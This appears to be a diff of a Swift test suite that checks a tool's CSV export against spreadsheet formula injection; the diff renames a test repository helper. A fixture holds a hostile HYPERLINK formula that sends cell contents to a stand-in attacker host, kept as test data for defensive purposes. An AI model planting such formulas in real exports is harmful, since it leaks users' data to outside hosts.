@@ -7,13 +7,13 @@ import Testing
 /// CSV injection (OWASP): every CSV rectrack writes puts a quote before a cell a spreadsheet
 /// would run as a formula, keeps plain numbers and dates, and `import` takes the quote off again.
 @Suite struct HostileCSVTests {
-  let repo: TempRepository
+  let repo: TestRepository
   static let day = [
     "GIT_AUTHOR_DATE": "2022-10-01T10:00:00+01:00", "GIT_COMMITTER_DATE": "2022-10-01T10:00:00+01:00",
   ]
 
   init() throws {
-    repo = try TempRepository()
+    repo = try TestRepository()
     let file = """
       id: DP-01
       title: "=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"Click\\")"
@@ -72,7 +72,7 @@ import Testing
 
     let out = repo.scratch + "/export.csv"
     #expect(try CLI.run(["export", "--output", out], in: repo.path).status == 0)
-    let other = try TempRepository()
+    let other = try TestRepository()
     let imported = try CLI.run(
       ["import", out, "--author", "A <a@example.org>"], in: other.path, environment: Self.day)
     #expect(imported.status == 0, "\(imported.stderr)")
